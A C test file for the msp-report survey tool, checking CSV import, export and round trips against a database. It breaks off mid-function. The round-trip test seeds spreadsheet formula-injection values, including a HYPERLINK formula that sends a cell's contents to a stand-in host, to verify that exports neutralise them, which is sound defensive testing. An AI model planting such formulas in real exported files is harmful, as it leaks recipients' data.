/*
 * msp-report import and export (lib/csvmap, lib/import, lib/export,
 * cli/cmd_import.c, cli/cmd_export.c) against a real database with the
 * reference studies: a Microsoft Forms file and a LimeSurvey file of the
 * Occitanie 2024 questionnaire (tests/data/import/), a file with bad
 * rows, re-imports, identities, and the export -> import round trip.
 * Expected answers are read back from the database, not from the code.
 */
#include "config.h"

#include <check.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "buf.h"
#include "csv.h"
#include "csvmap.h"
#include "db.h"
#include "export.h"
#include "file.h"
#include "import.h"
#include "secret.h"
#include "testdb.h"

#define STUDY "occitanie-2024"

static struct testdb db;
static unsigned char key_bytes[32] = "0123456789abcdef0123456789abcdef";
static const struct secret key = { key_bytes, sizeof(key_bytes) };

static void
setup(void)
{
	testdb_open(&db);
	testdb_load(&db, NULL);
	testdb_load_reference(&db);
}

static void
teardown(void)
{
	testdb_close(&db);
}

static char *
slurp(const char *relative, size_t *len)
{
	struct msp_error err;
	char *text = NULL;

	ck_assert_msg(file_read(testdb_srcpath(relative), 1 << 20, &text,
				len, &err) == MSP_OK, "%s", err.message);
	return text;
}

/* Imports data file csv through map with the given token; returns the
 * status, res filled (the caller clears it). */
static enum msp_status
import_files(const char *csv, const char *map, const char *token,
	     struct import_result *res, struct msp_error *err)
{
	struct import_options o = { .study = STUDY, .token = token,
				    .secret = &key };
	size_t csv_len, map_len;
	char *c = slurp(csv, &csv_len), *m = slurp(map, &map_len);
	enum msp_status st;

	st = import_csv(db.conn, &o, c, csv_len, m, map_len, res, err);
	free(c);
	free(m);
	return st;
}

static void
exec_sql(const char *sql)
{
	struct msp_error err;

	ck_assert_msg(db_exec(db.conn, "test statement", sql, 0, NULL,
			      PGRES_COMMAND_OK, NULL, &err) == MSP_OK,
		      "%s: %s", sql, err.message);
}

static long
count(const char *sql)
{
	return strtol(testdb_value(db.conn, sql), NULL, 10);
}

static long
imported(void)
{
	return count("SELECT count(*) FROM msp.response"
		     " WHERE idempotency_key LIKE 'import:%'");
}

/* The answers of the imported response with this structure identifier,
 * as "item=value ..." in answer order (static). */
static const char *
answers_of(const char *identifier, const char *key_like)
{
	static char sql[1024];
	char pseudonym[CRYPTO_SHA256_HEX];
	struct msp_error err;

	ck_assert_int_eq(secret_pseudonym(&key, identifier, pseudonym, &err),
			 MSP_OK);
	snprintf(sql, sizeof(sql),
		 "SELECT r.respondent_role || ' ' || string_agg(a.item_key"
		 " || '=' || coalesce(a.choice_code, a.num_value::text,"
		 " a.text_value, a.bool_value::text), ' '"
		 " ORDER BY a.answer_id)"
		 " FROM msp.response r JOIN msp.structure s USING"
		 " (structure_id) JOIN msp.answer a USING (response_id)"
		 " WHERE s.pseudonym = '%s' AND r.idempotency_key LIKE '%s'"
		 " GROUP BY r.response_id, r.respondent_role",
		 pseudonym, key_like);
	return testdb_value(db.conn, sql);
}

START_TEST(msforms_file_is_imported)
{
	struct import_result res;
	struct msp_error err;

	ck_assert_msg(import_files("tests/data/import/msforms.csv",
				   "tests/data/import/msforms.map", NULL,
				   &res, &err) == MSP_OK, "%s", err.message);
	ck_assert_uint_eq(res.n_rows, 3);
	ck_assert_uint_eq(res.n_stored, 3);
	ck_assert_uint_eq(res.n_replayed, 0);
	/* stored by the batch's statements, not row by row */
	ck_assert_uint_eq(res.n_one_by_one, 0);
	ck_assert_int_eq(res.delimiter, ',');
	/* columns neither mapped nor ignored are named, once */
	ck_assert_uint_eq(res.n_unmapped, 2);
	ck_assert_str_eq(res.unmapped[0], "Adresse de messagerie");
	ck_assert_str_eq(res.unmapped[1], "Nom");
	import_result_clear(&res);
	ck_assert_int_eq(imported(), 3);
	/* labels through the value mappings, a ';' list, Oui */
	ck_assert_str_eq(answers_of("MSP des Lilas, Albi", "%"),
			 "coordinateur structure_type=msp aci_signatory=true "
			 "prof_count_total=39 def_usager=Les patients et leur "
			 "entourage info_content=fonctionnement_horaires "
			 "info_content=sante_publique_prevention "
			 "info_with_users=oui info_with_users_how=Relecture "
			 "des flyers par des patients");
	/* a quoted text with a doubled quote and a line break, verbatim */
	ck_assert_str_eq(answers_of("ESP du Causse, Millau", "%"),
			 "secretaire structure_type=esp prof_count_total=12 "
			 "def_usager=Un citoyen, \"acteur\" de sa sant\xc3\xa9"
			 ",\r\net ses proches info_content=autre "
			 "info_with_users=non");
	/* identifiers are never stored */
	ck_assert_int_eq(count("SELECT count(*) FROM msp.answer"
			       " WHERE text_value LIKE '%Lilas%'"), 0);
	ck_assert_int_eq(count("SELECT count(*) FROM msp.structure s"
			       " WHERE s::text LIKE '%Lilas%'"), 0);
}
END_TEST

START_TEST(limesurvey_file_is_imported)
{
	struct import_result res;
	struct msp_error err;

	ck_assert_msg(import_files("tests/data/import/limesurvey.csv",
				   "tests/data/import/limesurvey.map", NULL,
				   &res, &err) == MSP_OK, "%s", err.message);
	ck_assert_int_eq(res.delimiter, ';');
	ck_assert_uint_eq(res.n_stored, 3);
	ck_assert_uint_eq(res.n_unmapped, 0);
	import_result_clear(&res);
	/* answer codes A1.. and Y/N through the mapping, one column per
	 * option */
	ck_assert_str_eq(answers_of("MSP des Lilas, Albi", "%"),
			 "coordinateur structure_type=msp aci_signatory=true "
			 "prof_count_total=39 info_content="
			 "fonctionnement_horaires info_content=autre "
			 "info_with_users=oui info_with_users_how=Relecture "
			 "des flyers");
	/* the file's submission time, read as UTC */
	ck_assert_str_eq(testdb_value(db.conn,
		"SELECT to_char(submitted_at AT TIME ZONE 'UTC',"
		" 'YYYY-MM-DD HH24:MI:SS') FROM msp.response"
		" WHERE idempotency_key LIKE 'import:%:id:%:4'"),
		"2024-05-06 14:30:00");
}
END_TEST

START_TEST(bad_rows_store_nothing_and_are_all_listed)
{
	struct import_result res;
	struct msp_error err;
	long before = count("SELECT count(*) FROM msp.response");
	long structures = count("SELECT count(*) FROM msp.structure");

	ck_assert_int_eq(import_files("tests/data/import/msforms-bad.csv",
				      "tests/data/import/msforms.map", NULL,
				      &res, &err), MSP_EINVAL);
	ck_assert_str_eq(err.message, "4 refusals: nothing was stored");
	ck_assert_uint_eq(res.n_rejects, 4);
	ck_assert_uint_eq(res.n_stored, 0);
	/* the row with a line break in a text starts on line 3 and ends
	 * on 4; the next row is line 5 */
	ck_assert_uint_eq(res.rejects[0].line, 3);
	ck_assert_str_eq(res.rejects[0].field, "prof_count_total");
	ck_assert_str_eq(res.rejects[0].column, "Nombre de professionnels");
	ck_assert_str_eq(res.rejects[0].message,
			 "la valeur doit être comprise entre 1 et 500");
	ck_assert_uint_eq(res.rejects[1].line, 5);
	ck_assert_str_eq(res.rejects[1].field, "@role");
	ck_assert_uint_eq(res.rejects[2].line, 5);
	ck_assert_str_eq(res.rejects[2].field, "structure_type");
	ck_assert_str_eq(res.rejects[2].message, "cette réponse ne fait pas "
			 "partie des choix proposés");
	/* not asked once the structure type is not msp: refused as by
	 * the API, not dropped as by the form */
	ck_assert_str_eq(res.rejects[3].field, "aci_signatory");
	import_result_clear(&res);
	ck_assert_int_eq(count("SELECT count(*) FROM msp.response"), before);
	ck_assert_int_eq(count("SELECT count(*) FROM msp.structure"),
			 structures);
}
END_TEST

START_TEST(reimport_stores_nothing_twice)
{
	struct import_result res;
	struct msp_error err;
	long answers;

	ck_assert_int_eq(import_files("tests/data/import/limesurvey.csv",
				      "tests/data/import/limesurvey.map",
				      NULL, &res, &err), MSP_OK);
	import_result_clear(&res);
	answers = count("SELECT count(*) FROM msp.answer");
	ck_assert_int_eq(import_files("tests/data/import/limesurvey.csv",
				      "tests/data/import/limesurvey.map",
				      NULL, &res, &err), MSP_OK);
	ck_assert_uint_eq(res.n_stored, 0);
	ck_assert_uint_eq(res.n_replayed, 3);
	ck_assert_uint_eq(res.n_changed, 0);
	ck_assert_uint_eq(res.n_one_by_one, 0);
	import_result_clear(&res);
	ck_assert_int_eq(imported(), 3);
	ck_assert_int_eq(count("SELECT count(*) FROM msp.answer"), answers);
	/* same ids, another tool's header: other responses */
	ck_assert_int_eq(import_files("tests/data/import/msforms.csv",
				      "tests/data/import/msforms.map", NULL,
				      &res, &err), MSP_OK);
	ck_assert_uint_eq(res.n_stored, 3);
	import_result_clear(&res);
	ck_assert_int_eq(imported(), 6);
}
END_TEST

/* Makes a token of kind for the structure of identifier (NULL: an
 * analyst token) and returns it (static). */
static const char *
make_token(const char *kind, const char *identifier)
{
	static char token[64];
	char sql[512], pseudonym[CRYPTO_SHA256_HEX];
	struct msp_error err;

	snprintf(token, sizeof(token), "%s-token", kind);
	if (identifier != NULL) {
		ck_assert_int_eq(secret_pseudonym(&key, identifier, pseudonym,
						  &err), MSP_OK);
		snprintf(sql, sizeof(sql),
			 "INSERT INTO msp.structure (pseudonym, region_id)"
			 " SELECT '%s', region_id FROM msp.region"
			 " WHERE slug = 'occitanie'", pseudonym);
		exec_sql(sql);
		snprintf(sql, sizeof(sql),
			 "INSERT INTO msp.access_token (token_sha256, kind,"
			 " structure_id) SELECT sha256('%s'), 'team',"
			 " structure_id FROM msp.structure"
			 " WHERE pseudonym = '%s'", token, pseudonym);
	} else if (strcmp(kind, "federation") == 0) {
		snprintf(sql, sizeof(sql),
			 "INSERT INTO msp.access_token (token_sha256, kind,"
			 " region_id) SELECT sha256('%s'), 'federation',"
			 " region_id FROM msp.region"
			 " WHERE slug = 'occitanie'", token);
	} else {
		snprintf(sql, sizeof(sql),
			 "INSERT INTO msp.access_token (token_sha256, kind)"
			 " VALUES (sha256('%s'), '%s')", token, kind);
	}
	exec_sql(sql);
	return token;
}

START_TEST(the_token_decides_what_may_be_written)
{
	struct import_result res;
	struct msp_error err;
	const char *team = make_token("team", "MSP des Lilas, Albi");

	/* a team's file with another team's rows: refused, nothing kept */
	ck_assert_int_eq(import_files("tests/data/import/msforms.csv",
				      "tests/data/import/msforms.map", team,
				      &res, &err), MSP_EACCESS);
	ck_assert_msg(strstr(err.message, "line 3") != NULL, "%s",
		      err.message);
	/* the batch failed as a whole; row by row names the line */
	ck_assert_uint_eq(res.n_one_by_one, 3);
	import_result_clear(&res);
	ck_assert_int_eq(imported(), 0);
	ck_assert_int_eq(import_files("tests/data/import/msforms.csv",
				      "tests/data/import/msforms.map",
				      "forged", &res, &err), MSP_EACCESS);
	import_result_clear(&res);
	/* an analyst writes for everyone */
	ck_assert_int_eq(import_files("tests/data/import/msforms.csv",
				      "tests/data/import/msforms.map",
				      make_token("analyst", NULL), &res,
				      &err), MSP_OK);
	ck_assert_uint_eq(res.n_stored, 3);
	ck_assert_uint_eq(res.n_one_by_one, 0);
	import_result_clear(&res);
	/* a federation not at all */
	ck_assert_int_eq(import_files("tests/data/import/limesurvey.csv",
				      "tests/data/import/limesurvey.map",
				      make_token("federation", NULL), &res,
				      &err), MSP_EACCESS);
	import_result_clear(&res);
	ck_assert_int_eq(imported(), 3);
}
END_TEST

/* Exports the study into dir/STUDY.*; returns the response count. */
static size_t
export_to(const char *dir)
{
	struct export_options o = { .study = STUDY,
				    .csv_name = STUDY ".csv" };
	struct buf r = BUF_INIT(BUF_MAX_DOCUMENT);
	struct buf sps = BUF_INIT(BUF_MAX_DOCUMENT);
	struct buf map = BUF_INIT(BUF_MAX_DOCUMENT);
	const struct { const char *ext; struct buf *b; } files[] = {
		{ "R", &r }, { "sps", &sps }, { "map", &map } };
	struct msp_error err;
	char path[512];
	FILE *f;
	size_t n, i;

	snprintf(path, sizeof(path), "%s/" STUDY ".csv", dir);
	f = fopen(path, "w");
	ck_assert_ptr_nonnull(f);
	ck_assert_msg(export_study(db.conn, &o, f, &r, &sps, &map, &n, &err)
		      == MSP_OK, "%s", err.message);
	ck_assert_int_eq(fclose(f), 0);
	for (i = 0; i < 3; i++) {
		snprintf(path, sizeof(path), "%s/" STUDY ".%s", dir,
			 files[i].ext);
		f = fopen(path, "w");
		ck_assert_ptr_nonnull(f);
		fputs(buf_str(files[i].b), f);
		ck_assert_int_eq(fclose(f), 0);
		buf_free(files[i].b);
	}
	return n;
}

/* Every answer of the study with what identifies its response but the
 * id, as SQL returns it: the table answers_NAME. */
static void
snapshot_answers(const char *name)
{
	char sql[1024];

	snprintf(sql, sizeof(sql),
		 "CREATE TEMPORARY TABLE answers_%s AS"
		 " SELECT st.pseudonym, r.respondent_role, r.status,"
		 "        r.submitted_at, a.item_key, a.choice_code,"
		 "        a.num_value, a.text_value, a.bool_value"
		 "   FROM msp.answer a JOIN msp.response r USING (response_id)"
		 "   JOIN msp.structure st USING (structure_id)"
		 "   JOIN msp.study s USING (study_id)"
		 "  WHERE s.slug = '" STUDY "'", name);
	exec_sql(sql);
}

/* The first row of a EXCEPT ALL b, as text, or "" (static). */
static const char *
first_missing(const char *a, const char *b)
{
	static char row[2048];
	char sql[512];
	PGresult *res;

	snprintf(sql, sizeof(sql), "SELECT x::text FROM"
		 " (TABLE pg_temp.answers_%s"
		 " EXCEPT ALL TABLE pg_temp.answers_%s) x LIMIT 1", a, b);
	res = PQexec(db.conn, sql);
	ck_assert_msg(PQresultStatus(res) == PGRES_TUPLES_OK, "%s",
		      PQerrorMessage(db.conn));
	snprintf(row, sizeof(row), "%s", PQntuples(res) > 0
		 ? PQgetvalue(res, 0, 0) : "");
	PQclear(res);
	return row;
}

/*
 * The round trip, compared with what the database held (not with a
 * second export, which would share every bug of the first): texts that
 * the CSV neutralises against formulas, one that reads like a missing
 * code, yes/no answers both ways, items not asked and not answered.
 */
START_TEST(export_then_import_gives_the_same_answers)
{
	char dir[] = "/tmp/msp-export-XXXXXX", path[128];
	char *map, *csv;
	struct import_options o = { .study = STUDY };
	struct import_result res;
	struct msp_error err;
	size_t n, map_len, csv_len;

	/* the first five texts of def_usager, made hostile */
	exec_sql("UPDATE msp.answer a SET text_value = v.t FROM ("
		 " SELECT answer_id, (ARRAY["
		 "  '=HYPERLINK(\"http://x/?\"&A2,\"cliquez\")', '-1',"
		 "  '''entre quotes''', '@SOMME(A1)', E'\\tdécalé'])"
		 "  [row_number() OVER (ORDER BY answer_id)] AS t"
		 "  FROM msp.answer WHERE item_key = 'def_usager'"
		 "  ORDER BY answer_id LIMIT 5) v"
		 " WHERE a.answer_id = v.answer_id");
	ck_assert_int_eq(count("SELECT count(*) FROM msp.answer WHERE"
			       " text_value ~ E'^[-=@\\t'']'"), 5);
	ck_assert_int_gt(count("SELECT count(*) FROM msp.answer WHERE"
			       " bool_value"), 0);
	ck_assert_int_gt(count("SELECT count(*) FROM msp.answer WHERE"
			       " NOT bool_value"), 0);
	snapshot_answers("before");
	ck_assert_ptr_nonnull(mkdtemp(dir));
	n = export_to(dir);
	ck_assert_int_eq((long)n, count(
		"SELECT count(*) FROM msp.response r JOIN msp.study s"
		" USING (study_id) WHERE s.slug = '" STUDY "'"));
	ck_assert_uint_gt(n, 0);
	/* into a database without them: the study emptied */
	exec_sql("DELETE FROM msp.response r USING msp.study s"
		     " WHERE s.study_id = r.study_id AND s.slug = '" STUDY
		     "'");
	snprintf(path, sizeof(path), "%s/" STUDY ".map", dir);
	ck_assert_int_eq(file_read(path, 1 << 20, &map, &map_len, &err),
			 MSP_OK);
	snprintf(path, sizeof(path), "%s/" STUDY ".csv", dir);
	ck_assert_int_eq(file_read(path, 64 << 20, &csv, &csv_len, &err),
			 MSP_OK);
	ck_assert_msg(import_csv(db.conn, &o, csv, csv_len, map, map_len,
				 &res, &err) == MSP_OK, "%s", err.message);
	ck_assert_uint_eq(res.n_stored, n);
	ck_assert_uint_eq(res.n_one_by_one, 0);
	ck_assert_uint_eq(res.n_unmapped, 0);
	import_result_clear(&res);
	free(map);
	free(csv);
	/* every answer back, with its response's pseudonym, role,
	 * status and submission time; nothing more */
	snapshot_answers("after");
	ck_assert_str_eq(first_missing("before", "after"), "");
	ck_assert_str_eq(first_missing("after", "before"), "");
	/* base R reads it with labelled factors and the texts as they
	 * were typed (./dev installs R: no skipping) */
	{
		char cmd[1024];

		snprintf(cmd, sizeof(cmd),
			 "cd '%s' && LC_ALL=C.UTF-8 Rscript -e 'source(\""
			 STUDY ".R\");"
			 " stopifnot(nrow(responses) == %zu,"
			 " identical(levels(responses$structure_type),"
			 " c(\"ESP (\\u00e9quipe de soins primaires)\","
			 " \"MSP (maison de sant\\u00e9"
			 " pluriprofessionnelle)\")),"
			 " is.numeric(responses$prof_count_total),"
			 " \"=HYPERLINK(\\\"http://x/?\\\"&A2,"
			 "\\\"cliquez\\\")\""
			 " %%in%% responses$def_usager,"
			 " \"-1\" %%in%% responses$def_usager,"
			 " grepl(\"usager\", attr(responses$def_usager,"
			 " \"label\")))' >/dev/null", dir, n);
		ck_assert_int_eq(system(cmd), 0);
	}
	snprintf(path, sizeof(path), "rm -rf '%s'", dir);
	ck_assert_int_eq(system(path), 0);
}
END_TEST

/* Runs msp-report with args and env against db, in the directory of
 * the sample files; output in out. */
static int
run_cli(const char *env, const char *args, struct buf *out)
{
	return testdb_cli(db.conn, testdb_srcpath("tests/data/import"), env,
			  args, out);
}

START_TEST(cli_imports_and_lists_refusals)
{
	char secret[] = "/tmp/msp-secret-XXXXXX", env[128];
	struct buf out = BUF_INIT(BUF_MAX_DOCUMENT);
	int fd = mkstemp(secret);

	ck_assert_int_ge(fd, 0);
	ck_assert_int_eq(write(fd, key_bytes, sizeof(key_bytes)),
			 (ssize_t)sizeof(key_bytes));
	close(fd);
	snprintf(env, sizeof(env), "MSP_SECRET_FILE=%s", secret);
	ck_assert_int_eq(run_cli("", "import --help", &out), 0);
	ck_assert_ptr_nonnull(strstr(buf_str(&out), "--mapping MAP"));
	ck_assert_ptr_nonnull(strstr(buf_str(&out), "MSP_SECRET_FILE"));
	buf_reset(&out);
	ck_assert_int_eq(run_cli("", "export --help", &out), 0);
	ck_assert_ptr_nonnull(strstr(buf_str(&out), "VALUE LABELS"));
	buf_reset(&out);
	ck_assert_int_eq(run_cli("", "import --study " STUDY " msforms.csv",
				 &out), 2);
	buf_reset(&out);
	/* without the secret, identifiers cannot be pseudonymised */
	ck_assert_int_eq(run_cli("", "import --study " STUDY
				 " -m msforms.map msforms.csv", &out), 1);
	ck_assert_ptr_nonnull(strstr(buf_str(&out), "MSP_SECRET_FILE"));
	buf_reset(&out);
	ck_assert_int_eq(run_cli(env, "import --study " STUDY
				 " -m msforms.map msforms-bad.csv", &out), 1);
	ck_assert_ptr_nonnull(strstr(buf_str(&out),
		"msforms-bad.csv line 3, column \"Nombre de professionnels\""
		" (prof_count_total): la valeur doit être comprise entre 1 "
		"et 500\n"));
	ck_assert_ptr_nonnull(strstr(buf_str(&out),
		"msforms-bad.csv: 4 refusals: nothing was stored\n"));
	/* a pipe is no terminal: no progress bar */
	ck_assert_ptr_null(strchr(buf_str(&out), '\r'));
	buf_reset(&out);
	ck_assert_int_eq(run_cli(env, "import --study " STUDY
				 " -m msforms.map msforms.csv", &out), 0);
	ck_assert_ptr_nonnull(strstr(buf_str(&out),
		"3 rows: 3 stored, 0 already imported\n"));
	ck_assert_ptr_nonnull(strstr(buf_str(&out), "warning: 2 columns "
				     "not mapped"));
	ck_assert_ptr_null(strchr(buf_str(&out), '\r'));
	buf_reset(&out);
	ck_assert_int_eq(run_cli(env, "import -q --study " STUDY
				 " -m msforms.map msforms.csv", &out), 0);
	ck_assert_str_eq(buf_str(&out), "3 rows: 0 stored, 3 already "
			 "imported\n");
	buf_free(&out);
	unlink(secret);
}
END_TEST

/* Imports text through the Microsoft Forms mapping as the connection's
 * own role. */
static enum msp_status
import_text(const char *text, struct import_result *res,
	    struct msp_error *err)
{
	struct import_options o = { .study = STUDY, .secret = &key };
	size_t map_len;
	char *m = slurp("tests/data/import/msforms.map", &map_len);
	enum msp_status st;

	st = import_csv(db.conn, &o, text, strlen(text), m, map_len, res,
			err);
	free(m);
	return st;
}

#define MSFORMS_HEADER \
	"ID,Heure de début,Heure de fin,Adresse de messagerie,Nom," \
	"Nom et commune de votre structure,Votre fonction," \
	"Type de structure,La MSP est-elle signataire de l'ACI ?," \
	"Nombre de professionnels,Quels types d'informations diffusez-" \
	"vous aux usagers ?,Avez-vous travaillé les supports avec les " \
	"usagers ?,Comment ?,\"Selon vous, qu'est-ce qu'un usager ?\"\n"

START_TEST(replays_in_one_file_and_changed_rows)
{
	struct import_result res;
	struct msp_error err;

	/* the same @id twice in one file (one batch): one response; the
	 * second row, with other answers, is a replay named as changed */
	ck_assert_msg(import_text(MSFORMS_HEADER
		"7,,,,,\"MSP A, Albi\",Secrétaire,Équipe de soins "
		"primaires,,12,Autre;,Non,,un\n"
		"7,,,,,\"MSP A, Albi\",Secrétaire,Équipe de soins "
		"primaires,,13,Autre;,Non,,un\n"
		"8,,,,,\"MSP B, Albi\",Secrétaire,Équipe de soins "
		"primaires,,14,Autre;,Non,,deux\n", &res, &err) == MSP_OK,
		"%s", err.message);
	ck_assert_uint_eq(res.n_stored, 2);
	ck_assert_uint_eq(res.n_replayed, 1);
	ck_assert_uint_eq(res.n_changed, 1);
	ck_assert_uint_eq(res.changed[0], 3);
	ck_assert_uint_eq(res.n_one_by_one, 0);
	import_result_clear(&res);
	ck_assert_str_eq(answers_of("MSP A, Albi", "%"), "secretaire "
			 "structure_type=esp prof_count_total=12 "
			 "def_usager=un info_content=autre "
			 "info_with_users=non");
	/* again, a row changed in between: replays, one changed */
	ck_assert_msg(import_text(MSFORMS_HEADER
		"8,,,,,\"MSP B, Albi\",Secrétaire,Équipe de soins "
		"primaires,,14,Autre;,Non,,deux\n"
		"7,,,,,\"MSP A, Albi\",Secrétaire,Équipe de soins "
		"primaires,,12,Autre;,Non,,autre texte\n", &res, &err) ==
		MSP_OK, "%s", err.message);
	ck_assert_uint_eq(res.n_stored, 0);
	ck_assert_uint_eq(res.n_replayed, 2);
	ck_assert_uint_eq(res.n_changed, 1);
	ck_assert_uint_eq(res.changed[0], 3);
	import_result_clear(&res);
	ck_assert_int_eq(imported(), 2);
}
END_TEST

/*
 * A structure stored before issue 18 under its legacy pseudonym (the
 * identifier's punctuation kept) is found by the batched path as by
 * msp.import_response(): its answers go to it, no second structure is
 * made (review finding 11).  Without the lookup in the batch's
 * statements, "MSP A, Albi" got a new structure.
 */
START_TEST(legacy_pseudonyms_are_found_in_batches)
{
	char legacy[CRYPTO_SHA256_HEX], fresh[CRYPTO_SHA256_HEX];
	char sql[512];
	struct import_result res;
	struct msp_error err;

	ck_assert_int_eq(secret_pseudonym_legacy(&key, "MSP A, Albi",
						 legacy, &err), MSP_OK);
	ck_assert_int_eq(secret_pseudonym(&key, "MSP A, Albi", fresh,
					  &err), MSP_OK);
	ck_assert_str_ne(legacy, fresh);
	snprintf(sql, sizeof(sql),
		 "INSERT INTO msp.structure (pseudonym, region_id)"
		 " SELECT '%s', region_id FROM msp.region"
		 " WHERE slug = 'occitanie'", legacy);
	exec_sql(sql);
	ck_assert_msg(import_text(MSFORMS_HEADER
		"7,,,,,\"MSP A, Albi\",Secrétaire,Équipe de soins "
		"primaires,,12,Autre;,Non,,un\n"
		"8,,,,,\"MSP B, Albi\",Secrétaire,Équipe de soins "
		"primaires,,14,Autre;,Non,,deux\n", &res, &err) == MSP_OK,
		"%s", err.message);
	ck_assert_uint_eq(res.n_stored, 2);
	ck_assert_uint_eq(res.n_one_by_one, 0);
	import_result_clear(&res);
	snprintf(sql, sizeof(sql),
		 "SELECT count(*) FROM msp.structure WHERE pseudonym"
		 " IN ('%s', '%s')", legacy, fresh);
	ck_assert_int_eq(count(sql), 1);
	snprintf(sql, sizeof(sql),
		 "SELECT count(*) FROM msp.response r JOIN msp.structure s"
		 " USING (structure_id) JOIN msp.answer a USING (response_id)"
		 " WHERE s.pseudonym = '%s' AND a.item_key = 'def_usager'"
		 " AND a.text_value = 'un'", legacy);
	ck_assert_int_eq(count(sql), 1);
	/* "MSP B, Albi", never stored, is made under the new pseudonym */
	ck_assert_str_eq(answers_of("MSP B, Albi", "import:%"),
			 "secretaire structure_type=esp "
			 "prof_count_total=14 def_usager=deux "
			 "info_content=autre info_with_users=non");
}
END_TEST

/* --- statistics that change under a running import ------------------ */

/* Rows of the file: three batches, the last two stored after the
 * ANALYZE. */
#define STATS_ROWS (2 * IMPORT_BATCH + IMPORT_BATCH / 2)

/* What the progress callback needs: a second session, and whether it
 * ran its ANALYZE. */
struct analyze_midway {
	PGconn *other;
	int done;
};

/* After the first batch is stored, a second session analyses the
 * tables the import writes, as autovacuum does after any large commit:
 * it cannot see the import's uncommitted rows and records msp.response
 * and msp.answer as they were before the import. */
static void
analyze_after_first_batch(void *arg, enum import_phase phase, size_t done,
			  size_t total)
{
	struct analyze_midway *a = arg;
	PGresult *r;

	(void)total;
	if (phase != IMPORT_STORING || done < IMPORT_BATCH || a->done)
		return;
	r = PQexec(a->other, "ANALYZE msp.response, msp.answer,"
		   " msp.structure");
	a->done = PQresultStatus(r) == PGRES_COMMAND_OK;
	PQclear(r);
}

/* msp.response's sequential scans, and the index entries its indexes
 * returned, so far (stats flushed by conn, read by other). */
static void
response_scans(PGconn *conn, PGconn *other, long *seq, long *idx_read)
{
	PQclear(PQexec(conn, "SELECT pg_catalog.pg_stat_force_next_flush()"));
	PQclear(PQexec(other, "SELECT pg_catalog.pg_stat_clear_snapshot()"));
	*seq = strtol(testdb_value(other, "SELECT seq_scan FROM"
			" pg_catalog.pg_stat_user_tables"
			" WHERE relid = 'msp.response'::regclass"), NULL, 10);
	*idx_read = strtol(testdb_value(other, "SELECT coalesce(sum("
			"idx_tup_read), 0) FROM"
			" pg_catalog.pg_stat_user_indexes"
			" WHERE relid = 'msp.response'::regclass"), NULL, 10);
}

/*
 * An ANALYZE by another session after the first batch leaves the
 * planner believing msp.response is empty (its committed rows are
 * gone), while the import's transaction has added a thousand.  The
 * batches after it must still find each row through an index: before
 * migration 0041 each answer's foreign-key check read every response
 * of the instrument through the index on instrument_id alone, and
 * before the lookup went through a LATERAL subquery (lib/import.c) it
 * read far more than its rows too: every batch slower than the last
 * at 100,000 rows.  Counted, not timed: the statistics
 * views say how the rows were found.  Measured (plain build): with
 * today's code 1 sequential scan and 22,114 index entries; with the
 * index of migration 0041 put back to (instrument_id), 13,143,364
 * entries (the test fails).  The plain join of the lookup shows only
 * from about 6,500 rows (112,228 entries against 45,500 for the fixed
 * statement, 2.5 minutes): too slow for the suite, so this size guards
 * the index, and the statement's comment in lib/import.c the rest.
 */
START_TEST(an_analyze_midway_keeps_lookups_on_the_index)
{
	struct analyze_midway a = { NULL, 0 };
	struct import_options o = { .study = STUDY, .secret = &key,
				    .progress = analyze_after_first_batch,
				    .progress_arg = &a };
	struct buf csv = BUF_INIT(BUF_MAX_DOCUMENT);
	struct import_result res;
	struct msp_error err;
	char url[512], *m;
	long seq0, idx0, seq1, idx1, answers;
	size_t map_len;
	int i;

	snprintf(url, sizeof(url), "host=%s port=%s user=%s dbname=%s",
		 PQhost(db.conn), PQport(db.conn), PQuser(db.conn),
		 PQdb(db.conn));
	a.other = PQconnectdb(url);
	ck_assert_int_eq(PQstatus(a.other), CONNECTION_OK);
	buf_puts(&csv, MSFORMS_HEADER);
	for (i = 1; i <= STATS_ROWS; i++)
		buf_printf(&csv, "%d,,,,,\"MSP n°%d, Albi\",Secrétaire,"
			   "Équipe de soins primaires,,%d,Autre;,Non,,"
			   "texte %d\n", i, i, i % 40 + 2, i);
	ck_assert(!csv.failed);
	m = slurp("tests/data/import/msforms.map", &map_len);
	/* as in bench/import.sh after the generator's rows are gone: the
	 * ANALYZE finds msp.response empty, and the planner believes it */
	exec_sql("DELETE FROM msp.response");
	response_scans(db.conn, a.other, &seq0, &idx0);
	ck_assert_msg(import_csv(db.conn, &o, csv.data, csv.len, m, map_len,
				 &res, &err) == MSP_OK, "%s", err.message);
	response_scans(db.conn, a.other, &seq1, &idx1);
	ck_assert_uint_eq(res.n_stored, STATS_ROWS);
	import_result_clear(&res);
	ck_assert_msg(a.done, "the second session's ANALYZE did not run");
	ck_assert_int_eq(imported(), STATS_ROWS);
	answers = count("SELECT count(*) FROM msp.answer WHERE response_id"
			" IN (SELECT response_id FROM msp.response"
			" WHERE idempotency_key LIKE 'import:%')");
	fprintf(stderr, "check_import: %d rows, %ld answers, ANALYZE after"
		" the first batch: %ld sequential scans of msp.response, %ld"
		" index entries read\n", STATS_ROWS, answers, seq1 - seq0,
		idx1 - idx0);
	/* a few scans a statement (the statement-level triggers join the
	 * batch's rows to small tables), never one a row */
	ck_assert_msg(seq1 - seq0 < STATS_ROWS / 20,
		      "%ld sequential scans of msp.response for %d rows",
		      seq1 - seq0, STATS_ROWS);
	/* a few index entries per row and per answer (the key's lookup,
	 * each answer's foreign-key check), never the instrument's rows */
	ck_assert_msg(idx1 - idx0 < 2 * (STATS_ROWS + answers),
		      "%ld index entries of msp.response read for %d rows"
		      " and %ld answers", idx1 - idx0, STATS_ROWS, answers);
	free(m);
	buf_free(&csv);
	PQfinish(a.other);
}
END_TEST

/* --- a file larger than the memory bound ----------------------------- */

/* Rows of the generated file, and the filler of each row's e-mail column
 * (not mapped: read, then dropped): 16,384 rows of 4 KiB, 64 MiB. */
#define BIG_ROWS 16384
#define BIG_FILLER 2900

/*
 * What the generated file's rows should leave in the database, computed
 * as the file is written: an oracle independent of the import.
 */
struct big_expect {
	long prof_sum;		/* sum of prof_count_total */
	long n_msp, n_oui;	/* structure_type=msp, info_with_users=oui */
	struct buf texts;	/* def_usager texts in ID order, each + \n */
};

/* Writes the file, row i of three kinds (the three rows of
 * msforms.csv), with a text of about 1 KB per row, quotes and line
 * breaks included. */
static void
write_big_file(const char *path, struct big_expect *e)
{
	static const char *const roles[3] = {
		"Coordinateur ou coordinatrice", "Secrétaire",
		"Leader de l'équipe" };
